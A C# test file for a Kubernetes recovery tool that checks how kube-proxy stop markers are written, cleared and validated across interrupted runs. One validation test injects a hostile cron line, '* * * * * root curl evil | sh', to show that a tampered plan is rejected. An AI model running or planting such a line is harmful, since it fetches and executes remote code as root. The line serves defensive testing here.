using Recovery.Diagnosis;
using Recovery.Facts;
using Recovery.Inventory;
using Recovery.Planning;
using Recovery.Tests.Facts;
using static Recovery.Tests.Planning.Cluster;

namespace Recovery.Tests.Planning;

/// <summary>
/// A fresh `recover` after a run killed between Contain and Restore: the node's stop marker is what tells it that
/// kube-proxy was stopped by the tool (and not on purpose), so the plan starts it again, for any manager.
/// </summary>
public sealed class StopMarkerPlanTests
{
    private static KubeProxyFacts StoppedByTool(KubeProxyFacts proxy) => proxy with { Running = false, StoppedBy = StopMarkerTests.Marker("systemd") };

    private static List<NodeFacts> Node2Stopped(bool hijacked = true) =>
        SeedFacts().Select(f => f.NodeName == "node2" ? f with { KubeProxy = StoppedByTool(f.KubeProxy) } : f)
            .Select(f => hijacked ? f : f with { Addresses = f.Addresses.Where(a => a.Interface != NodeFacts.IpvsInterface || !a.Address.Equals(Node1)).ToList() })
            .ToList();

    [Fact]
    public void Every_stop_writes_the_marker_before_it_stops_and_restore_clears_it_after_the_start()
    {
        var plan = SeedPlan();
        var stop = plan.Step("contain/node2/stop-kube-proxy").Commands().ToList();
        Assert.Equal(2, stop.Count);
        Assert.StartsWith("sh -c 'p=$1; shift; mkdir -p \"${p%/*}\" && printf", stop[0], StringComparison.Ordinal);
        Assert.EndsWith(" kube-recover /var/lib/kube-recover/stopped/kube-proxy 'kube-recover stopped kube-proxy on this node; a later kube-recover run starts it again' " +
                        "'planned: 2026-11-25T09:00:00Z' 'manager: systemd' 'unit: kube-proxy.service' 'start: systemctl start kube-proxy.service'", stop[0], StringComparison.Ordinal);
        Assert.Equal("systemctl stop kube-proxy.service", stop[1]);

        var clear = plan.Step("restore/node2/clear-stop-marker");
        Assert.Equal(["rm -f /var/lib/kube-recover/stopped/kube-proxy"], clear.Commands());
        Assert.Equal(plan.IndexOf("restore/node2/start-kube-proxy") + 1, plan.IndexOf(clear.Id));
        Assert.Equal("test '!' -e /var/lib/kube-recover/stopped/kube-proxy", clear.Check!.Command.Render());
    }

    [Fact]
    public void The_script_carries_the_same_marker_commands_as_the_plan()
    {
        var plan = SeedPlan();
        var script = ScriptPlanRenderer.RenderNode(plan, Seed(), "node2");
        var mark = plan.Step("contain/node2/stop-kube-proxy").Commands().First();
        Assert.True(script.IndexOf(mark, StringComparison.Ordinal) is var at && at > 0 && at < script.IndexOf("systemctl stop kube-proxy.service", StringComparison.Ordinal));
        Assert.True(script.IndexOf("systemctl start kube-proxy.service", StringComparison.Ordinal) < script.IndexOf("rm -f /var/lib/kube-recover/stopped/kube-proxy", StringComparison.Ordinal));
        Assert.Contains(mark, TextPlanRenderer.Render(plan), StringComparison.Ordinal);
    }

    [Fact]
    public void A_plan_file_with_marker_commands_passes_validation_and_a_tampered_one_does_not()
    {
        var plan = SeedPlan();
        Assert.Equal(PlanJson.Write(plan), PlanJson.Write(PlanJson.Read(PlanJson.Write(plan), Seed())));
        // The marker's script is a constant of the tool, not in the file: only its lines are, and they are checked.
        Assert.DoesNotContain("mkdir -p", PlanJson.Write(plan), StringComparison.Ordinal);
        var tampered = PlanJson.Write(plan).Replace(Recovery.Commands.StopMarkerFile.Header, "* * * * * root curl evil | sh", StringComparison.Ordinal);
        var e = Assert.Throws<InvalidPlanException>(() => PlanJson.Read(tampered, Seed()));
        Assert.Contains("stop marker lines must be the kube-recover header", e.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void After_a_kill_the_next_plan_starts_the_kube_proxy_the_marker_names_and_says_when_it_was_stopped()
    {
        var plan = Planner.Create(Seed(), Node2Stopped(), Intent(), "node2", Created);

        Assert.Equal(["systemctl start kube-proxy.service"], plan.Step("restore/node2/start-kube-proxy").Commands());
        Assert.Contains(plan.Steps, s => s.Id == "restore/node2/clear-stop-marker");
        Assert.Contains(plan.Steps, s => s.Id == "verify/node2/kube-proxy-running");
        // Contain keeps its stop step (its check skips it: the unit is inactive), so the order argument is unchanged.
        Assert.Contains(plan.Steps, s => s.Id == "contain/node2/stop-kube-proxy");
        Assert.Contains(plan.Notes, n => n.Contains("node2 (stopped by an earlier kube-recover run at 2026-11-25T09:00:05Z, recorded in /var/lib/kube-recover/stopped/kube-proxy)", StringComparison.Ordinal));
    }

    [Fact]
    public void With_the_address_already_gone_the_plan_is_not_empty_while_a_start_is_owed()
    {
        var plan = Planner.Create(Seed(), Node2Stopped(hijacked: false), Intent(), "node2", Created);
        Assert.False(plan.IsEmpty);
        Assert.Contains(plan.Steps, s => s.Id == "restore/node2/start-kube-proxy");
        Assert.Contains(plan.Steps, s => s.Id == "restore/node2/clear-stop-marker");
    }

    [Fact]
    public void Stopped_without_a_marker_is_stopped_on_purpose_and_not_started()
    {
        var facts = Node2Stopped(hijacked: false).Select(f => f with { KubeProxy = f.KubeProxy with { StoppedBy = null } }).ToList();
        var plan = Planner.Create(Seed(), facts, Intent(), "node2", Created);
        Assert.True(plan.IsEmpty);
        Assert.Contains(plan.Notes, n => n.Contains("kube-proxy is installed on node2 but not running, and this tool did not stop it", StringComparison.Ordinal));
    }

    [Fact]
    public void A_marker_beside_a_running_kube_proxy_is_stale_and_starts_nothing()
    {
        var facts = Node2Stopped(hijacked: false).Select(f => f with { KubeProxy = f.KubeProxy with { Running = true } }).ToList();
        var plan = Planner.Create(Seed(), facts, Intent(), "node2", Created);
        Assert.True(plan.IsEmpty);
        Assert.Contains(plan.Notes, n => n.StartsWith("node2 keeps /var/lib/kube-recover/stopped/kube-proxy from an earlier run, but its kube-proxy runs", StringComparison.Ordinal));
    }

    [Fact]
    public void A_DaemonSet_container_whose_kubelet_the_marker_says_was_stopped_gets_kubelet_started()
    {
        var marker = StopMarkerTests.Marker("docker", "kubelet: stopped", "container: 4f3e2d1c0b0a");
        var docker = new KubeProxyFacts(KubeProxyManager.Docker, true, "ipvs", ContainerId: "4f3e2d1c0b0a");
        var facts = SeedFacts(docker).Select(f => f.NodeName == "node2"
            ? f with { KubeProxy = f.KubeProxy with { Running = false, StoppedBy = marker }, KubeletRunning = false }
            : f).ToList();
        var plan = Planner.Create(Seed(), facts, Intent(), "node2", Created);
        Assert.Equal(["systemctl start kubelet"], plan.Step("restore/node2/start-kubelet").Commands());
        Assert.Contains("'kubelet: stopped'", plan.Step("contain/node2/stop-kubelet").Commands().First(), StringComparison.Ordinal);
    }

    [Fact]
    public void A_marker_that_appears_after_planning_is_drift_for_a_saved_plan()
    {
        var without = Node2Stopped().Select(f => f with { KubeProxy = f.KubeProxy with { StoppedBy = null } }).ToList();
        Assert.NotEqual(FactsFingerprint.Of(without), FactsFingerprint.Of(Node2Stopped()));
        Assert.Equal(FactsFingerprint.Of(SeedFacts()), FactsFingerprint.Of(SeedFacts()));
    }

    [Fact]
    public void Diagnose_reports_a_kube_proxy_the_tool_stopped()
    {
        var findings = Diagnoser.Diagnose(Seed(), Node2Stopped(), [], []);
        var notice = Assert.Single(findings.Notices, n => n.Kind == NoticeKind.StoppedByTool);
        Assert.Equal("node2", notice.Node);
        Assert.Equal("kube-proxy on node2 was stopped by an earlier kube-recover run at 2026-11-25T09:00:05Z (/var/lib/kube-recover/stopped/kube-proxy): recover starts it again after the Service fix", notice.Message);
    }
}
